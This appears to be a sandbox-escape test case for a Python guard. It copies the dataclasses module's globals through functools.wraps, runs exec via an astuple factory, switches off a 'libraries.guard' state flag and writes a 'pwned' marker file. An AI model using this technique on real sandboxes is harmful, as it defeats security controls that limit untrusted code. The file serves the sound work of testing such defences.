"""file: asdict reads fields of an object whose class only looks like a dataclass, by a getter that is not its own."""

import dataclasses
import functools

CODE = """\
import sys
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_dataclass_of_anything", "w").close()
"""


@dataclasses.dataclass
class Real:
    run: object
    code: str


class Holder:
    __globals__ = None


names = functools.wraps(dataclasses.fields, assigned=("__globals__",), updated=())(Holder()).__globals__
x = dataclasses.asdict(Real(1, CODE), dict_factory=lambda pairs: pairs)
y = dataclasses.astuple(Real(2, CODE), tuple_factory=lambda pair: names["__builtins__"]["exec"](CODE))
z = dataclasses.astuple(Real(2, CODE), tuple_factory=staticmethod(names["__builtins__"]["list"]))
